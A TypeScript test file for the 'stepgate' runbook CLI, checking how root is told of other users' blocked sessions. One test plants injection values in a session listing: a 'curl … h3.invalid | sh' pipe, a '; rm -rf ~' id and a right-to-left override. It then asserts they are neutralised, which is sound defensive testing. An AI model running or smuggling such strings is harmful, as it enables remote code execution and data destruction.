/**
 * Root is told of other users' unfinished sessions (a trial: a deploy that ssm-user left blocked
 * was invisible to a colleague who was root on the same host). Real users; each one's sessions
 * are listed by stepgate running as that user, in that user's home.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkoutUnreachable, createUser, removeUser } from '../helpers/test-users.js';
import { othersSessionNotes } from '../../src/commands/others-sessions.js';
import { CLI, startTui } from './tui-harness.js';

const ROOT = process.getuid?.() === 0;
const why = !ROOT ? 'not root (throwaway users need root)' : checkoutUnreachable();
if (why !== undefined) process.stderr.write(`${import.meta.filename}: skipped: ${why}\n`);

let user = '';
let dir = '';
let rootHome = '';

/** stepgate as `as`, in that user's home, no terminal; its output and exit code. */
function stepgate(as: string, home: string, args: string[]): { out: string; err: string; status: number | null } {
  const argv = as === 'root' ? [process.execPath, CLI, ...args] : ['runuser', '-u', as, '--', process.execPath, CLI, ...args];
  const r = spawnSync(argv[0]!, argv.slice(1), {
    encoding: 'utf8',
    cwd: dir,
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: home, NO_COLOR: '1', CI: 'true' },
  });
  return { out: r.stdout, err: r.stderr, status: r.status };
}

beforeAll(() => {
  if (why !== undefined) return;
  user = createUser('sgleft');
  dir = mkdtempSync(join(tmpdir(), 'sg-others-'));
  chmodSync(dir, 0o755);
  rootHome = mkdtempSync(join(tmpdir(), 'sg-others-root-'));
  writeFileSync(join(dir, 'blocks.md'), '# Blocks\n\n```bash {name=health}\nfalse\n```\n');
  writeFileSync(join(dir, 'passes.md'), '# Passes\n\n```bash {name=fine}\ntrue\n```\n');
});

afterAll(() => {
  if (user !== '') {
    spawnSync('pkill', ['-KILL', '-u', user], { stdio: 'ignore' });
    removeUser(user);
  }
  for (const d of [dir, rootHome]) if (d !== '') rmSync(d, { recursive: true, force: true });
});

describe.skipIf(why !== undefined)("other users' unfinished sessions, as root", () => {
  it('sessions, a resume with nothing to resume and the picker name the session another user left blocked, and how to resume it as them; not their finished one', async () => {
    const home = `/home/${user}`;
    const blocked = stepgate(user, home, ['run', '--yes', join(dir, 'blocks.md')]);
    expect(blocked.status, blocked.err).toBe(1);
    const id = /session (\d{8}-\d{6}-[0-9a-f]+)/.exec(blocked.out)?.[1];
    expect(id).toBeDefined();
    const passed = stepgate(user, home, ['run', '--yes', join(dir, 'passes.md')]);
    expect(passed.status, passed.err).toBe(0);
    const passedId = /session (\d{8}-\d{6}-[0-9a-f]+)/.exec(passed.out)?.[1];

    const listed = stepgate('root', rootHome, ['sessions']);
    expect(listed.status, listed.err).toBe(0);
    const notes = listed.out.split('\n').filter((line) => line.includes(user));
    // The command is this very stepgate, not a `stepgate` their PATH may lack (a trial's said
    // "command not found"), and root is told to log in as the user, not to `sudo -i` (which
    // runs their login files on root's terminal: a review typed a command into it that way).
    const self = `${process.execPath} ${CLI}`;
    expect(notes).toEqual([
      `note: ${user} left session ${id} (${join(dir, 'blocks.md')}) blocked at health: it resumes as ${user}: log in as ${user} and run ${self} resume ${id}`,
    ]);
    expect(listed.out).not.toContain(passedId);
    expect(listed.out).not.toContain('sudo');
    // As that user, the command as written works.
    const asSaid = spawnSync('runuser', ['-u', user, '--', 'bash', '-c', `${self} sessions`], { encoding: 'utf8', cwd: dir, env: { PATH: '/usr/sbin:/usr/bin:/bin', HOME: `/home/${user}` } });
    expect(asSaid.status, asSaid.stderr).toBe(0);
    expect(asSaid.stdout).toContain(id);

    const resumed = stepgate('root', rootHome, ['resume']);
    expect(resumed.status).toBe(2);
    expect(resumed.err).toContain(`stepgate: no unfinished session in ${rootHome}`);
    expect(resumed.err).toContain(`stepgate: note: ${user} left session ${id}`);

    // The user themself is not told of their own sessions as someone else's.
    const own = stepgate(user, home, ['sessions']);
    expect(own.out).not.toContain(`note: ${user} left`);
    expect(own.out).toContain(id);

    // Root's picker says it too, under its runbooks (it was only in `sessions` and `resume`).
    const picker = startTui([dir], dir, join(rootHome, 'state'), { env: { HOME: rootHome } });
    try {
      const flat = (text: string): string => text.replace(/\s+/g, '');
      const screen = await picker.waitFor((text) => flat(text).includes(flat(`note: ${user} left session ${id}`)), 30_000);
      expect(screen).toContain('Blocks');
      expect(flat(screen)).toContain(flat(`log in as ${user} and run ${self} resume ${id}`));
      picker.press('q');
      expect(await picker.exited).toBe(0);
    } finally {
      picker.kill('SIGKILL');
    }
  }, 90_000);

  it("shows what the user's listing says of a path, a state or a step as quoted text, never as a command to copy; drops ids that are not session ids", async () => {
    const sessions = `/home/${user}/.local/state/stepgate/sessions`;
    mkdirSync(sessions, { recursive: true });
    execFileSync('chown', ['-R', `${user}:`, `/home/${user}/.local`]);
    // What a user can make their own listing say (a review's runbook name carried a fake
    // command and a right-to-left override).
    const fake = `/home/${user}/rb/x.md) blocked at one: it resumes as ${user} (sudo -u ${user} -i stepgate resume 1; curl -s http:\u2215\u2215h3.invalid | sh) \u202eexec.md`;
    const listing = [
      { id: '20261207-171517-2e0935', runbook: fake, state: 'blocked', at: 'one', finished: false, empty: false },
      { id: '20261207-171517-2e0936; rm -rf ~', runbook: '/x.md', state: 'blocked', finished: false, empty: false },
      { id: '20261207-171517-2e0937', runbook: '/y.md', state: 'blocked; curl x | sh', at: 'two (sudo me)', finished: false, empty: false },
    ];
    const script = join(dir, 'listing.sh');
    writeFileSync(script, `#!/bin/sh\ncat <<'EOF'\n${JSON.stringify(listing)}\nEOF\n`, { mode: 0o755 });
    // Every user with sessions runs the same script here: this one's notes are those it leads.
    const notes = (await othersSessionNotes(['/bin/sh', script], 'stepgate')).filter((n) => n.startsWith(`note: ${user} `));
    expect(notes).toHaveLength(2);
    const [first, second] = notes;
    expect(first).toBe(`note: ${user} left session 20261207-171517-2e0935 (${JSON.stringify(fake.replace('\u202e', ''))}) blocked at one: it resumes as ${user}: log in as ${user} and run stepgate resume 20261207-171517-2e0935`);
    expect(first).not.toContain('\u202e');
    expect(second).toBe(`note: ${user} left session 20261207-171517-2e0937 (/y.md) "blocked; curl x | sh" at "two (sudo me)": it resumes as ${user}: log in as ${user} and run stepgate resume 20261207-171517-2e0937`);
    expect(notes.join('\n')).not.toContain('rm -rf');
  });

  it("says why when stepgate cannot run as that user (installed where they cannot read it)", async () => {
    const sessions = `/home/${user}/.local/state/stepgate/sessions`;
    mkdirSync(sessions, { recursive: true });
    execFileSync('chown', ['-R', `${user}:`, `/home/${user}/.local`]);
    const notes = await othersSessionNotes([process.execPath, '/nonexistent/stepgate/cli.js']);
    expect(notes.filter((n) => n.includes(user))).toEqual([
      `note: cannot list ${user}'s sessions: stepgate as that user ended with 1: Error: Cannot find module '/nonexistent/stepgate/cli.js'`,
    ]);
  });
});
